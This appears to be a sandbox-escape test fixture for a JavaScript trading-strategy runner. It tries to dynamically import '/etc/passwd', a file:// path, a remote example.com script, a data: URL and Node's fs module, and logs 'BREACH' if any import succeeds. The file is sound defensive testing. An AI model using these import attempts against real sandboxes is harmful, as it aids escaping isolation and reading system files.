// tries: imports at run time
// expect: harmless
// events: 1

export async function onBar(ctx) {
  for (const name of ['/etc/passwd', './sma-cross.js', 'https://example.com/x.js', 'data:text/javascript,export%20default%201', 'fs', 'node:fs', 'file:///etc/passwd']) {
    try { await import(name); ctx.log('BREACH', name); } catch {}
  }
  ctx.log('done');
}
